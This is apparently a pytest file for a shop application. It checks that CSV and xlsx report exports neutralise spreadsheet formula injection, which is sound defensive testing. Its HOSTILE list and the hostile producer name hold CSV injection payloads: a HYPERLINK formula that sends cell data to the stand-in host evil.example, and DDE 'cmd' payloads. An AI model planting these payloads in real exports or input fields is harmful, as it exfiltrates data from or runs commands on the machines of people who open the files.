"""Exports carry no live formula: a name such as ``=HYPERLINK(…)`` reaches a CSV quoted and
an .xlsx file as text (issue 15, item 6; OWASP's CSV injection guidance)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import httpx
import openpyxl
import pytest
from openpyxl import Workbook
from sqlalchemy.ext.asyncio import AsyncSession

from shop import spreadsheets
from shop.catalog.sellability import today
from tests import factories

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_quoted_in_a_csv(text: str):
    assert spreadsheets.is_formula_like(text)
    rows = list(csv.reader(io.StringIO(spreadsheets.to_csv([[text, 5]]).decode("utf-8-sig"), newline="")))
    assert rows == [["'" + text, "5"]]


@pytest.mark.parametrize("value", ["Mật ong bạc hà", "-12", "+84", "1.5", -3, 0.5, None, "a=b", ""])
def test_ordinary_values_and_numbers_stay_as_they_are(value: object):
    assert spreadsheets.csv_cell(value) == ("" if value is None else value)


def test_formula_like_text_is_text_in_an_xlsx_file():
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    spreadsheets.append_row(sheet, [*HOSTILE, 42, -7])
    out = io.BytesIO()
    book.save(out)
    read = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert read is not None
    cells = next(iter(read.iter_rows()))
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE) + ["n", "n"]
    # XML keeps a carriage return as a line feed
    assert [c.value for c in cells[: len(HOSTILE)]] == [t.replace("\r", "\n") for t in HOSTILE]
    assert all(c.quotePrefix for c in cells[: len(HOSTILE)])
    assert [c.value for c in cells[len(HOSTILE) :]] == [42, -7]


async def test_a_report_with_a_hostile_product_name_exports_no_formula(
    client: httpx.AsyncClient, session: AsyncSession
):
    maker = await factories.producer(session, code="HTX-F", name="+cmd|' /C calc'!A0")
    item = await factories.product(session, maker, name=HOSTILE[0])
    on = today()
    decided = on - dt.timedelta(days=300)
    until = on + dt.timedelta(days=20)
    await factories.certificate(
        session, item, 4, decision_date=decided, valid_from=decided, valid_until=until, today=decided
    )
    admin = await factories.admin_headers(session, client)
    as_csv = await client.get("/api/v1/reports/expiring-certificates?format=csv", headers=admin)
    assert as_csv.status_code == 200, as_csv.text
    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert rows[1][2:4] == ["'" + HOSTILE[0], "'+cmd|' /C calc'!A0"]
    assert rows[1][1] == "20"  # a number stays a number
    as_xlsx = await client.get("/api/v1/reports/expiring-certificates?format=xlsx", headers=admin)
    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx.content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula in the export"
    assert HOSTILE[0] in [c.value for c in cells]
